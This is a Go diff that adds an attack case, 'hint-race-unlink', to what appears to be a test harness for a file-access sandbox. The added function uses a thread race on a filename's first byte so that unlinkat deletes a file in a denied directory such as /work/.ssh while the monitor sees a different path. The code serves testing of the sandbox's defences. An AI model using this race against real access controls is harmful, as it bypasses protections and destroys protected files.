@@ -305,6 +305,16 @@ func main() {
 			b, err = os.ReadFile(os.Args[4])
 			detail = fmt.Sprintf("read %d bytes through %s", len(b), os.Args[4])
 		}
+	case "hint-race-unlink":
+		// arg: a denied directory (/work/.ssh); Args[3]: a name in it.
+		// The working directory is the denied one (chdir is not
+		// checked); a sibling thread keeps the name's first byte '/' but
+		// for a few ns at a time, so that the kernel unlinks the name as
+		// it copied it at the call's entry while the exit program, which
+		// reads it at return, sees an absolute name.
+		if err = hintRaceUnlink(arg, os.Args[3]); err == nil {
+			detail = "unlinked " + filepath.Join(arg, os.Args[3])
+		}
 	case "flood-then-rename":
 		// arg: a writable mount (/work); Args[3]: a denied directory in
 		// it (/work/.ssh); Args[4]: the key's name there; Args[5]: where
@@ -531,4 +541,39 @@ func floodThenRename(mount, denied, key, to string, flood time.Duration) error {
 	time.Sleep(flood) // the attack's own pacing: the flood goes on
 	stop.Store(true)
 	return nil
+}
+
+// hintRaceUnlink is the attack "hint-race-unlink": it tries for up to
+// 20 s, until an unlink succeeds.
+func hintRaceUnlink(dir, name string) error {
+	runtime.LockOSThread()
+	if err := unix.Chdir(dir); err != nil {
+		return err
+	}
+	buf := append([]byte(name), 0)
+	first := buf[0]
+	b0 := &buf[0]
+	*b0 = '/'
+	var stop atomic.Bool
+	defer stop.Store(true)
+	go func() {
+		runtime.LockOSThread()
+		for !stop.Load() {
+			*b0 = first
+			for i := 0; i < 20; i++ {
+				runtime.KeepAlive(i)
+			}
+			*b0 = '/'
+			for i := 0; i < 3000; i++ {
+				runtime.KeepAlive(i)
+			}
+		}
+	}()
+	atFDCWD := unix.AT_FDCWD // a variable: -100 as a uintptr is not a constant expression
+	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); {
+		if _, _, e := unix.Syscall(unix.SYS_UNLINKAT, uintptr(atFDCWD), uintptr(unsafe.Pointer(b0)), 0); e == 0 {
+			return nil
+		}
+	}
+	return errors.New("no unlink got through in 20 s")
 }
